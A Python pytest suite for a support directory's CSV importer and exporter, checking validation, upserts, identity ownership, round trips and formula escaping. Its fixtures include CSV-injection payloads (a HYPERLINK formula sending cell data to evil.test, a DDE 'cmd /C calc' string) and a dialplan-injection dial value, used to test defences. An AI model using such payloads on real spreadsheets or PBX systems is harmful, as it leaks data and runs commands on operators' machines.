"""The directory CSV importer and exporter, on SQLite and on PostgreSQL."""

import csv
import importlib.util
import io
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from routers.csv.exporter import export_csv
from routers.csv.format import ImportFileError, escape_cell, unescape_cell
from routers.csv.importer import import_csv
from routers.models import Agent, CompanyHoliday, Customer, CustomerIdentity, Team
from routers.store.engine import create_engine, migrate

EXAMPLES = Path(__file__).parent.parent / "config" / "examples"
KINDS = ("teams", "agents", "customers", "holidays")
CUSTOMERS_HEADER = "id,name,team,emails,phones,twitter\n"
TEAMS_HEADER = "id,name,dial,email,timezone,hours,holidays,after_hours,after_hours_dial\n"
AGENTS_HEADER = "id,name,team,email,phone,dial,active,deputy,capacity,hours\n"
HOLIDAYS_HEADER = "team,date,name,hours\n"


def write(tmp_path: Path, name: str, text: str, *, bom: bool = False) -> Path:
    path = tmp_path / name
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode())
    return path


async def load_examples(db: AsyncEngine) -> None:
    for kind in KINDS:
        report = await import_csv(
            db, EXAMPLES / f"{kind}.csv", kind=None, region="TR", dry_run=False
        )
        assert report.rejects == []


async def identities(db: AsyncEngine) -> set[tuple[str, str, str]]:
    async with db.connect() as conn:
        rows = await conn.execute(
            select(CustomerIdentity.kind, CustomerIdentity.address, CustomerIdentity.customer_id)
        )
        return {(k, a, c) for k, a, c in rows.all()}


async def count(db: AsyncEngine, model: type[Team | Agent | Customer | CompanyHoliday]) -> int:
    async with db.connect() as conn:
        return int((await conn.execute(select(func.count()).select_from(model))).scalar_one())


async def test_each_kind_imports_from_the_examples(db: AsyncEngine) -> None:
    """The shipped example directory loads cleanly, its kinds detected from the headers."""
    reports = [
        await import_csv(db, EXAMPLES / f"{k}.csv", kind=None, region="TR", dry_run=False)
        for k in KINDS
    ]
    assert [(r.kind, r.inserted, r.updated, r.rejected) for r in reports] == [
        ("teams", 5, 0, 0),
        ("agents", 7, 0, 0),
        ("customers", 10, 0, 0),
        ("holidays", 3, 0, 0),
    ]
    assert (await count(db, Team), await count(db, Agent), await count(db, Customer)) == (5, 7, 10)
    assert await count(db, CompanyHoliday) == 3
    ids = await identities(db)
    assert ("twitter", "id:1498237650123456789", "c-1004") in ids
    assert ("twitter", "emilyj_nyc", "c-1005") in ids
    assert ("email", "fatma.arslan@example.com", "c-1002") in ids
    async with db.connect() as conn:
        sarah = (await conn.execute(select(Agent).where(Agent.id == "sarah"))).one()
        john = (await conn.execute(select(Agent).where(Agent.id == "john"))).one()
    assert (sarah.active, sarah.phone, sarah.team_id) == (False, "+12125550177", "enterprise")
    assert john.active is True  # an empty active column means active


async def test_reimport_updates_instead_of_duplicating(db: AsyncEngine, tmp_path: Path) -> None:
    """Loading the same directory twice is an upsert, and only a real change counts
    (issue 17: an unchanged file said "0 new, 10 updated")."""
    await load_examples(db)
    for kind in KINDS:
        again = await import_csv(
            db, EXAMPLES / f"{kind}.csv", kind=None, region="TR", dry_run=False
        )
        assert (again.kind, again.inserted, again.updated, again.rejected) == (kind, 0, 0, 0)
    assert (again.identities_added, again.identities_removed) == (0, 0)
    assert await count(db, Customer) == 10
    lines = (EXAMPLES / "customers.csv").read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace("Kemal Öztürk", "Kemal Öztürk Jr.")  # a name changes
    lines[2] = lines[2].replace(";fatma@arslanlojistik.com.tr", "")  # an identity goes
    changed = write(tmp_path, "customers.csv", "\n".join(lines) + "\n")
    report = await import_csv(db, changed, kind=None, region="TR", dry_run=False)
    assert (report.inserted, report.updated, report.identities_removed) == (0, 2, 1)


async def test_reimport_replaces_a_customers_identity_set(db: AsyncEngine, tmp_path: Path) -> None:
    """An identity dropped from the file is deleted; a changed name or team is applied."""
    await load_examples(db)
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER + "c-1002,Fatma Arslan Yücel,network,fatma@arslanlojistik.com.tr,,\n",
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    assert (report.updated, report.identities_added, report.identities_removed) == (1, 0, 3)
    assert {(k, a) for k, a, c in await identities(db) if c == "c-1002"} == {
        ("email", "fatma@arslanlojistik.com.tr")
    }
    async with db.connect() as conn:
        row = (await conn.execute(select(Customer).where(Customer.id == "c-1002"))).one()
    assert (row.name, row.team_id) == ("Fatma Arslan Yücel", "network")


async def test_every_rejected_row_has_its_line_and_reason(db: AsyncEngine, tmp_path: Path) -> None:
    """Each kind of bad row is rejected alone, named by its physical line; the rest apply."""
    await load_examples(db)
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER
        + "n-1,Good One,billing,good1@example.com,0532 900 00 01,\n"  # 2
        + "n-2,Bad Phone,billing,,12ab34cd,\n"  # 3
        + "n-3,Bad Email,billing,not-an-email,,\n"  # 4
        + "n-4,No Team,nowhere,n4@example.com,,\n"  # 5
        + "n-5,Thief,billing,kemal.ozturk@example.com.tr,,\n"  # 6: c-1001 owns it
        + "n-1,Good One Again,billing,,,\n"  # 7
        + ",No Id,billing,,,\n"  # 8
        + "n-8,,billing,,,\n"  # 9
        + "\n"  # 10: blank lines are skipped
        + 'n-9,"Two\nLines",billing,n9@example.com,,\n'  # 11-12
        + "n-10,Claims Too,billing,N9@Example.com,,\n"  # 13: n-9 just claimed it
        + "n-11,Bad Handle,billing,,,@way_too_long_for_x_handles\n"  # 14
        + "n-12,Short,billing\n"  # 15
        + "n-13,After Multiline,billing,n13@example.com,,\n",  # 16
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    reasons = dict(report.rejects)
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8, 9, 13, 14, 15]
    assert "bad phone number" in reasons[3]
    assert "bad email" in reasons[4]
    assert "unknown team 'nowhere'" in reasons[5]
    assert "owned by customer 'c-1001'" in reasons[6]
    assert "duplicate id 'n-1' (first on line 2)" in reasons[7]
    assert reasons[8] == "missing id"
    assert reasons[9] == "missing name"
    assert "owned by customer 'n-9'" in reasons[13]
    assert "bad X handle" in reasons[14]
    assert "3 fields, expected 6" in reasons[15]
    assert (report.inserted, report.updated, report.rejected, report.rows) == (3, 0, 10, 13)
    owners = {a: c for k, a, c in await identities(db)}
    assert owners["kemal.ozturk@example.com.tr"] == "c-1001"
    assert owners["n9@example.com"] == "n-9"
    assert owners["+905329000001"] == "n-1"


async def test_teams_and_agents_reject_unsafe_dial_and_unknown_team(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """Nothing that could inject into a PBX dialplan is stored; agents need a known team."""
    teams = write(
        tmp_path,
        "t.csv",
        "id,name,dial,email\n"
        "ok,OK,sip:ok@pbx.example.com,ok@example.com\n"
        'evil,Evil,"SIP/x,1,${SHELL}",evil@example.com\n'
        f"long,Long,{'9' * 129},\n"
        "mail,Mail,queue:mail,no-at-sign\n",
    )
    report = await import_csv(db, teams, kind=None, region="TR", dry_run=False)
    assert [line for line, _ in report.rejects] == [3, 4, 5]
    assert "bad dial target" in report.rejects[0].reason
    assert "bad dial target" in report.rejects[1].reason
    assert "bad email" in report.rejects[2].reason
    agents = write(
        tmp_path,
        "a.csv",
        "id,name,team,email,phone,dial,active\n"
        "a1,Agent One,ok,a1@example.com,0532 400 00 01,sip:a1@pbx.example.com,no\n"
        "a2,Agent Two,evil,,,,\n"
        "a3,Agent Three,ok,,,,maybe\n"
        "a4,Agent Four,ok,,not a phone,,\n",
    )
    report = await import_csv(db, agents, kind="agents", region="TR", dry_run=False)
    assert [(line, reason.split(" '")[0]) for line, reason in report.rejects] == [
        (3, "unknown team"),
        (4, "bad active value"),
        (5, "bad phone number"),
    ]
    async with db.connect() as conn:
        a1 = (await conn.execute(select(Agent))).one()
    assert (a1.id, a1.active, a1.phone) == ("a1", False, "+905324000001")


async def test_an_identity_owned_by_another_customer_is_never_moved(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """A re-import cannot steal a phone from another customer, even spelled differently."""
    await load_examples(db)
    before = await identities(db)
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER + "c-1007,Selin Aydın,billing,selin.aydin@example.com.tr,"
        "0542 666 77 88;+90 (532) 111-2233,\n",  # the second number is c-1001's
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    assert report.rejects[0].line == 2
    assert "phone +905321112233 is owned by customer 'c-1001'" in report.rejects[0].reason
    assert await identities(db) == before


async def test_an_identity_released_earlier_in_the_file_can_be_claimed(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """A file that removes an identity from one customer may give it to another below."""
    await load_examples(db)
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER
        + "c-1001,Kemal Öztürk,billing,kemal.ozturk@example.com.tr,,\n"
        + "c-1007,Selin Aydın,billing,,0532 111 22 33,\n",
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    assert report.rejects == []
    assert ("phone", "+905321112233", "c-1007") in await identities(db)


async def test_dry_run_reports_everything_and_changes_nothing(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """A dry run finds conflicts with the database and within the file, then rolls back."""
    await load_examples(db)
    before = await identities(db)
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER
        + "c-1001,Kemal Renamed,network,,,\n"  # drops all of c-1001's identities
        + "d-1,New,billing,d1@example.com,0532 777 00 01,\n"
        + "d-2,Also New,billing,D1@example.com,,\n"  # d-1 claimed it above
        + "d-3,Thief,billing,ops@northwind.example.com,,\n",  # c-1006 owns it
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=True, batch_size=2)
    assert report.dry_run
    assert (report.inserted, report.updated, report.identities_removed) == (1, 1, 3)
    assert [line for line, _ in report.rejects] == [4, 5]
    assert await identities(db) == before
    assert await count(db, Customer) == 10
    async with db.connect() as conn:
        kemal = (await conn.execute(select(Customer).where(Customer.id == "c-1001"))).one()
    assert (kemal.name, kemal.team_id) == ("Kemal Öztürk", "billing")


async def test_export_then_import_round_trips(db: AsyncEngine, tmp_path: Path) -> None:
    """What export writes, import reads back to the same directory, X user ids included."""
    await load_examples(db)
    files = {}
    for kind in KINDS:
        out = io.StringIO()
        assert (
            await export_csv(db, kind, out, batch_size=2)
            == {"teams": 5, "agents": 7, "customers": 10, "holidays": 3}[kind]
        )
        files[kind] = write(tmp_path, f"{kind}.csv", out.getvalue())
    assert "id:1498237650123456789" in files["customers"].read_text()
    assert "+905321112233" in files["customers"].read_text()
    before = await identities(db)
    other = create_engine(f"sqlite:///{tmp_path}/copy.db")
    await migrate(f"sqlite:///{tmp_path}/copy.db")
    try:
        for kind in KINDS:
            report = await import_csv(other, files[kind], kind=None, region="US", dry_run=False)
            assert report.rejects == []
            again = io.StringIO()
            await export_csv(other, kind, again)
            assert again.getvalue() == files[kind].read_text()
        assert await identities(other) == before
        assert await directory(other) == await directory(db)
    finally:
        await other.dispose()


async def test_a_byte_order_mark_is_ignored(db: AsyncEngine, tmp_path: Path) -> None:
    """Spreadsheets save UTF-8 with a BOM; the header must still be recognised."""
    path = write(tmp_path, "t.csv", "id,name,dial,email\nbilling,Faturalama,,\n", bom=True)
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    assert (report.kind, report.inserted) == ("teams", 1)


async def test_three_spellings_of_a_turkish_number_are_one_identity(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """In region TR, national, formatted international and bare international are equal."""
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER
        + 'p-1,One,,,"0532 111 22 33;+90 (532) 111-2233;905321112233",\n'
        + "p-2,Two,,,905321112233,\n",
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    assert await identities(db) == {("phone", "+905321112233", "p-1")}
    assert report.rejects[0].line == 3
    assert "owned by customer 'p-1'" in report.rejects[0].reason


async def test_a_file_that_is_not_a_directory_csv_is_refused(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """A header that matches no kind, or not the forced kind, stops before any row."""
    path = write(tmp_path, "x.csv", "id,name,colour\n1,a,red\n")
    with pytest.raises(ImportFileError, match="matches no kind"):
        await import_csv(db, path, kind=None, region="TR", dry_run=False)
    teams = write(tmp_path, "t.csv", "id,name,dial,email\n")
    with pytest.raises(ImportFileError, match="missing team"):
        await import_csv(db, teams, kind="customers", region="TR", dry_run=False)
    with pytest.raises(ImportFileError, match="empty"):
        await import_csv(db, write(tmp_path, "e.csv", ""), kind=None, region="TR", dry_run=False)


async def test_invalid_utf8_rejects_the_line_not_the_file(db: AsyncEngine, tmp_path: Path) -> None:
    """One row saved in Latin-1 is reported by its line; the others still import."""
    path = tmp_path / "t.csv"
    path.write_bytes(b"id,name,dial,email\nt1,Fatura\xe7,,\nt2,Billing,,\n")
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    assert report.rejects == [
        (2, "not valid UTF-8: looks like Windows-1254 (Turkish Excel): use --encoding cp1254")
    ]
    assert report.inserted == 1


def _generator() -> object:
    spec = importlib.util.spec_from_file_location(
        "gen_directory", Path(__file__).parent.parent / "bench" / "gen_directory.py"
    )
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


async def test_a_generated_directory_of_20000_customers_imports(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """Several batches end to end: every generated row lands, spoiled ones are reported."""
    gen = _generator()
    gen.write_directory(tmp_path, 20_000, bad_every=1_000)  # type: ignore[attr-defined]
    seen: list[tuple[int, bool]] = []
    for kind in ("teams", "agents", "customers"):
        report = await import_csv(
            db,
            tmp_path / f"{kind}.csv",
            kind=None,
            region="TR",
            dry_run=False,
            progress=lambda r: seen.append((r.rows, r.merging)),
            workers=2,  # the worker-process path big files take
        )
    # customers: each batch but the last, the merge's start, its end
    assert seen == [(20, False), (200, False)] + [(n, False) for n in (5_000, 10_000, 15_000)] + [
        (20_000, True),
        (20_000, False),
    ]
    assert (report.inserted, report.rejected) == (19_980, 20)
    assert report.rejects[0] == (1_001, "bad phone number 'not a number'")
    assert await count(db, Customer) == 19_980


async def test_invisible_characters_in_an_identity_reject_the_row(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """``ayse@acme.test`` plus a zero-width space would be a second, look-alike identity."""
    await load_examples(db)
    path = write(
        tmp_path,
        "c.csv",
        CUSTOMERS_HEADER
        + "z-1,Zero Width,billing,ayse@acme.test\u200b,,\n"  # 2
        + "z-2,Bidi,billing,,client:ay\u202ese,\n"  # 3
        + "z-3,Joiner,billing,,,ay\u200dse\n"  # 4
        + "z-4,Bom,billing,\ufeffz4@acme.test,,\n"  # 5
        + "z-5,Bell,billing,z5@acme\x07.test,,\n"  # 6
        + "z-6,Persian \u200cName,billing,ayse@acme.test,,\n",  # 7: a name may hold a ZWNJ
    )
    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
    reasons = dict(report.rejects)
    assert sorted(reasons) == [2, 3, 4, 5, 6]
    assert reasons[2] == (
        "bad email 'ayse@acme.test\\u200b': "
        "contains an invisible character (U+200B ZERO WIDTH SPACE)"
    )
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in reasons[3]
    assert "U+200D ZERO WIDTH JOINER" in reasons[4]
    assert "U+FEFF ZERO WIDTH NO-BREAK SPACE" in reasons[5]
    assert "U+0007" in reasons[6]
    assert {a for k, a, c in await identities(db) if c.startswith("z-")} == {"ayse@acme.test"}


FORMULA_TEAMS = (
    "id,name,dial,email\n"
    'hyper,"=HYPERLINK(""https://evil.test/?x=""&A1,""open"")",+902125550100,\n'
    "sum,@SUM(1+1)*cmd|' /C calc'!A0,,\n"
    "plus,+Plus,,\n"
    "minus,-Minus,,\n"
    "quoted,''=Quoted,,\n"  # stored as '=Quoted: the first quote is a spreadsheet's marker
    "plain,Plain,,\n"
)
FORMULA_CUSTOMERS = (
    CUSTOMERS_HEADER
    + "f-1,=1+2,plus,eq@example.com,+905321112233;+905321112244,@acme\n"
    + "f-2,-2+3,minus,,0532 111 22 55,id:12345\n"
)


async def directory(engine: AsyncEngine) -> dict[str, set[tuple[object, ...]]]:
    async with engine.connect() as conn:
        return {
            model.__tablename__: {tuple(row) for row in (await conn.execute(select(model))).all()}
            for model in (Team, Agent, Customer, CustomerIdentity, CompanyHoliday)
        }


async def test_export_never_writes_a_formula_and_import_undoes_the_escape(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """A name like ``=HYPERLINK(…)`` must not run in the operator's spreadsheet (OWASP's
    CSV-injection rule), and the escaped export still imports to the same directory."""
    for kind, text in (("teams", FORMULA_TEAMS), ("customers", FORMULA_CUSTOMERS)):
        report = await import_csv(
            db, write(tmp_path, f"in-{kind}.csv", text), kind=None, region="TR", dry_run=False
        )
        assert report.rejects == []
    files: dict[str, Path] = {}
    for kind in ("teams", "agents", "customers"):
        out = io.StringIO()
        await export_csv(db, kind, out)
        files[kind] = write(tmp_path, f"{kind}.csv", out.getvalue())
    teams = [row[:4] for row in csv.reader(io.StringIO(files["teams"].read_text()))]
    assert teams[1:] == [
        ["hyper", '\'=HYPERLINK("https://evil.test/?x="&A1,"open")', "'+902125550100", ""],
        ["minus", "'-Minus", "", ""],
        ["plain", "Plain", "", ""],
        ["plus", "'+Plus", "", ""],
        ["quoted", "''=Quoted", "", ""],
        ["sum", "'@SUM(1+1)*cmd|' /C calc'!A0", "", ""],
    ]
    customers = [row[:6] for row in csv.reader(io.StringIO(files["customers"].read_text()))]
    assert customers[1:] == [
        ["f-1", "'=1+2", "plus", "eq@example.com", "'+905321112233;+905321112244", "acme"],
        ["f-2", "'-2+3", "minus", "", "'+905321112255", "id:12345"],
    ]
    before = await directory(db)
    assert ("quoted", "'=Quoted", None, None) in {t[:4] for t in before["teams"]}
    other = create_engine(f"sqlite:///{tmp_path}/copy.db")
    await migrate(f"sqlite:///{tmp_path}/copy.db")
    try:
        for kind in ("teams", "agents", "customers"):
            report = await import_csv(other, files[kind], kind=None, region="US", dry_run=False)
            assert report.rejects == []
            again = io.StringIO()
            await export_csv(other, kind, again)
            assert again.getvalue() == files[kind].read_text()
        assert await directory(other) == before
    finally:
        await other.dispose()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("'@x", "''@x"),
        ("It's", "It's"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_formula_escape_is_undone_exactly(value: str, written: str) -> None:
    """Every cell survives export then import unchanged, quotes included."""
    assert escape_cell(value) == written
    assert unescape_cell(written) == value


# Issue 15: team schedules, holidays, deputies and capacity in the directory files.

GOOD = {
    "teams": (TEAMS_HEADER, "g1,Good,,,,,,,", "g2,Good Too,,,,,,,"),
    "agents": (AGENTS_HEADER, "g1,Good,billing,,,,,,,", "g2,Good Too,billing,,,,,,,"),
    "holidays": (HOLIDAYS_HEADER, "billing,2027-03-01,Good,", "oncall,2027-03-02,Good Too,"),
}
BAD_TIME = "(HH:MM, 00:00 to 24:00, 24:00 only as an end)"


@pytest.mark.parametrize(
    ("kind", "row", "reason"),
    [
        ("teams", "t1,T,,,Mars/Base,,,,", "unknown time zone 'Mars/Base'"),
        ("teams", "t1,T,,,,Mon-Fri 9-18,,,", f"hours 'Mon-Fri 9-18': bad time '9' {BAD_TIME}"),
        (
            "teams",
            "t1,T,,,,Mon-Fry 09:00-18:00,,,",
            "hours 'Mon-Fry 09:00-18:00': unknown day 'Fry' (Mon, Tue, Wed, Thu, Fri, Sat, Sun)",
        ),
        ("teams", "t1,T,,,,,XX,,", "unknown holiday country 'XX' (ISO 3166-1 alpha-2, e.g. TR)"),
        (
            "teams",
            "t1,T,,,,,,nowhere,",
            "unknown after_hours team 'nowhere': not in the file or the directory",
        ),
        ("teams", "t1,T,,,,,,t1,", "after_hours 't1' is the team itself"),
        ("teams", 't1,T,,,,,,,"sip:x,1"', "bad dial target 'sip:x,1': only letters, digits"),
        ("agents", "a1,A,billing,,,,,nobody,,", "unknown deputy 'nobody': not in the file or"),
        ("agents", "a1,A,billing,,,,,a1,,", "deputy 'a1' is the agent themself"),
        (
            "agents",
            "a1,A,billing,,,,,,fax=3,",
            "capacity 'fax=3': unknown channel 'fax' (email, sms, voice, twitter, whatsapp)",
        ),
        ("agents", "a1,A,billing,,,,,,email=many,", "capacity 'email=many': the count must be"),
        ("agents", "a1,A,billing,,,,,,,Mon 25:00-26:00", "hours 'Mon 25:00-26:00': bad time"),
        ("holidays", "nowhere,2026-12-31,Eve,", "unknown team 'nowhere'"),
        ("holidays", "billing,31.12.2026,Eve,", "bad date '31.12.2026': use YYYY-MM-DD"),
        ("holidays", "billing,2026-02-30,Eve,", "bad date '2026-02-30': no such day"),
        ("holidays", "billing,,Eve,", "missing date"),
        ("holidays", ",2026-12-31,Eve,", "missing team"),
        ("holidays", "billing,2026-12-31,,", "missing name"),
        ("holidays", "billing,2026-12-31,Eve,9-13", f"hours '9-13': bad time '9' {BAD_TIME}"),
    ],
)
async def test_each_bad_schedule_column_rejects_its_row_alone(
    engine: AsyncEngine, tmp_path: Path, kind: str, row: str, reason: str
) -> None:
    """A typo in a time zone, hours, country, deputy, after-hours team, capacity or date is
    named by its line with what is wrong; the rows around it are imported."""
    await load_examples(engine)
    header, first, last = GOOD[kind]
    path = write(tmp_path, f"{kind}.csv", f"{header}{first}\n{row}\n{last}\n")
    report = await import_csv(engine, path, kind=None, region="TR", dry_run=False)
    assert [line for line, _ in report.rejects] == [3]
    assert report.rejects[0].reason.startswith(reason)
    assert (report.kind, report.inserted) == (kind, 2)


async def test_schedule_columns_are_stored_in_canonical_form(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """Hours, capacities and countries written any accepted way are stored as the router's
    parsers print them, so two spellings never look like two settings."""
    teams = write(
        tmp_path,
        "t.csv",
        TEAMS_HEADER
        + 't1,T,,,Europe/Istanbul," mon-fri 9:00-12:00 ,13:00-18:00 ; sat 10:00-14:00",'
        "tr,,\n",
    )
    assert (await import_csv(db, teams, kind=None, region="TR", dry_run=False)).rejects == []
    agents = write(
        tmp_path, "a.csv", AGENTS_HEADER + "a1,A,t1,,,,, ,whatsapp=5; email=20 ,closed\n"
    )
    assert (await import_csv(db, agents, kind=None, region="TR", dry_run=False)).rejects == []
    days = write(
        tmp_path, "h.csv", HOLIDAYS_HEADER + 't1,2026-12-31,Eve," 13:00-15:00,9:00-12:00"\n'
    )
    assert (await import_csv(db, days, kind=None, region="TR", dry_run=False)).rejects == []
    async with db.connect() as conn:
        team = (await conn.execute(select(Team))).one()
        agent = (await conn.execute(select(Agent))).one()
        day = (await conn.execute(select(CompanyHoliday))).one()
    assert (team.timezone, team.hours, team.holidays) == (
        "Europe/Istanbul",
        "Mon-Fri 09:00-12:00,13:00-18:00; Sat 10:00-14:00",
        "TR",
    )
    assert (agent.deputy, agent.capacity, agent.hours) == (None, "email=20;whatsapp=5", "closed")
    assert (str(day.day), day.name, day.hours) == ("2026-12-31", "Eve", "09:00-12:00,13:00-15:00")


async def test_an_old_header_keeps_the_new_columns(db: AsyncEngine, tmp_path: Path) -> None:
    """A teams.csv or agents.csv from before issue 15 still imports, and updating a name
    with it leaves the hours, zone, deputy and capacity that were set as they were."""
    await load_examples(db)
    async with db.connect() as conn:
        before = {t.id: t for t in (await conn.execute(select(Team))).all()}
    teams = write(tmp_path, "t.csv", "id,name,dial,email\nbilling,Faturalama,,\nnew,New,,\n")
    report = await import_csv(db, teams, kind=None, region="TR", dry_run=False)
    assert (report.kind, report.inserted, report.updated, report.rejected) == ("teams", 1, 1, 0)
    agents = write(
        tmp_path, "a.csv", "id,name,team,email,phone,dial,active\nmehmet,Mehmet D.,billing,,,,\n"
    )
    report = await import_csv(db, agents, kind=None, region="TR", dry_run=False)
    assert (report.kind, report.updated, report.rejected) == ("agents", 1, 0)
    some = write(
        tmp_path, "s.csv", "id,name,dial,email,hours\noncall,On call,,,Mon-Sun 08:00-24:00\n"
    )
    assert (await import_csv(db, some, kind=None, region="TR", dry_run=False)).rejects == []
    async with db.connect() as conn:
        teams_now = {t.id: t for t in (await conn.execute(select(Team))).all()}
        mehmet = (await conn.execute(select(Agent).where(Agent.id == "mehmet"))).one()
    billing = teams_now["billing"]
    assert (billing.name, billing.dial) == ("Faturalama", None)
    assert (billing.timezone, billing.hours, billing.holidays, billing.after_hours) == (
        "Europe/Istanbul",
        "Mon-Fri 09:00-18:00",
        "TR",
        "oncall",
    )
    assert billing.after_hours_dial == before["billing"].after_hours_dial
    assert (teams_now["new"].timezone, teams_now["new"].hours) == (None, None)
    assert (teams_now["oncall"].hours, teams_now["oncall"].name) == (
        "Mon-Sun 08:00-24:00",
        "On call",
    )
    assert (mehmet.name, mehmet.deputy, mehmet.capacity) == (
        "Mehmet D.",
        "ayse",
        "email=20;sms=5;twitter=10;whatsapp=5",
    )


async def test_a_header_with_some_new_columns_is_its_kind(db: AsyncEngine, tmp_path: Path) -> None:
    """Each issue 15 column is optional on its own; an unknown column still refuses the file,
    naming the optional ones."""
    path = write(tmp_path, "a.csv", "id,name,team,email,phone,dial,active,capacity\n")
    assert (await import_csv(db, path, kind=None, region="TR", dry_run=False)).kind == "agents"
    path = write(tmp_path, "h.csv", "team,date,name\n")
    assert (await import_csv(db, path, kind=None, region="TR", dry_run=False)).kind == "holidays"
    path = write(tmp_path, "x.csv", "id,name,dial,email,hours,colour\n")
    with pytest.raises(ImportFileError, match=r"teams: id,name,dial,email \(optional: timezone,"):
        await import_csv(db, path, kind=None, region="TR", dry_run=False)


async def test_a_deputy_or_after_hours_team_may_come_later_in_the_file(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """A row may name an agent or team defined further down, even batches later; a name
    that the file never defines, or only in a rejected row, rejects the rows naming it."""
    teams = write(
        tmp_path,
        "t.csv",
        TEAMS_HEADER
        + "day,Day,,,,Mon-Fri 09:00-18:00,,night,\n"  # 2: night is on line 6
        + "dusk,Dusk,,,,,,ghost,\n"  # 3: ghost's row is rejected
        + "eve,Eve,,,,,,dusk,\n"  # 4: dusk is rejected, so eve is too
        + "ghost,Ghost,,,Mars/Base,,,,\n"  # 5
        + "night,Night,,,,,,,\n",  # 6
    )
    report = await import_csv(db, teams, kind=None, region="TR", dry_run=False, batch_size=2)
    assert report.rejects == [
        (3, "unknown after_hours team 'ghost': not in the file or the directory"),
        (4, "unknown after_hours team 'dusk': not in the file or the directory"),
        (5, "unknown time zone 'Mars/Base'"),
    ]
    agents = write(
        tmp_path,
        "a.csv",
        AGENTS_HEADER
        + "a1,One,day,,,,,a3,,\n"  # the deputy chain a1 -> a3 -> a4 crosses two batches
        + "a2,Two,day,,,,,,,\n"
        + "a3,Three,day,,,,,a4,,\n"
        + "a4,Four,night,,,,,a1,,\n",
    )
    report = await import_csv(db, agents, kind=None, region="TR", dry_run=False, batch_size=1)
    assert (report.inserted, report.rejects) == (4, [])
    async with db.connect() as conn:
        deputies = dict((await conn.execute(select(Agent.id, Agent.deputy))).all())
        after = dict((await conn.execute(select(Team.id, Team.after_hours))).all())
    assert deputies == {"a1": "a3", "a2": None, "a3": "a4", "a4": "a1"}
    assert after == {"day": "night", "night": None}


async def test_holidays_file_is_each_listed_teams_whole_calendar(
    db: AsyncEngine, tmp_path: Path
) -> None:
    """Re-importing an edited export removes a company day taken out of it; a team the file
    does not mention keeps its days, and a rejected row keeps the day it was for."""
    await load_examples(db)
    edited = write(
        tmp_path,
        "h.csv",
        HOLIDAYS_HEADER
        + "billing,2026-12-31,Yılbaşı arifesi,09:00-12:00\n"  # updated; 2027-01-15 dropped
        + "billing,2027-04-23,Ulusal Egemenlik,\n",  # new
    )
    dry = await import_csv(db, edited, kind=None, region="TR", dry_run=True)
    assert (dry.inserted, dry.updated, dry.removed, dry.rejected) == (1, 1, 1, 0)
    report = await import_csv(db, edited, kind=None, region="TR", dry_run=False)
    assert (report.inserted, report.updated, report.removed, report.rejected) == (1, 1, 1, 0)
    typo = write(
        tmp_path,
        "typo.csv",
        HOLIDAYS_HEADER
        + "billing,2026-12-31,Yılbaşı arifesi,9-12\n"  # rejected: the day stays as it was
        + "billing,2027-04-23,Ulusal Egemenlik,\n",
    )
    report = await import_csv(db, typo, kind=None, region="TR", dry_run=False)
    # the other row is as stored: nothing to update
    assert (report.updated, report.removed, [line for line, _ in report.rejects]) == (0, 0, [2])
    async with db.connect() as conn:
        rows = (await conn.execute(select(CompanyHoliday).order_by("team_id", "day"))).all()
    assert [(r.team_id, str(r.day), r.hours) for r in rows] == [
        ("billing", "2026-12-31", "09:00-12:00"),
        ("billing", "2027-04-23", None),
        ("network", "2026-12-31", "09:00-13:00"),
    ]
    dup = write(
        tmp_path,
        "dup.csv",
        HOLIDAYS_HEADER + "network,2026-12-31,Eve,\nnetwork,2026-12-31,Eve again,\n",
    )
    report = await import_csv(db, dup, kind=None, region="TR", dry_run=False)
    assert report.rejects == [(3, "duplicate date 2026-12-31 for team 'network' (first on line 2)")]
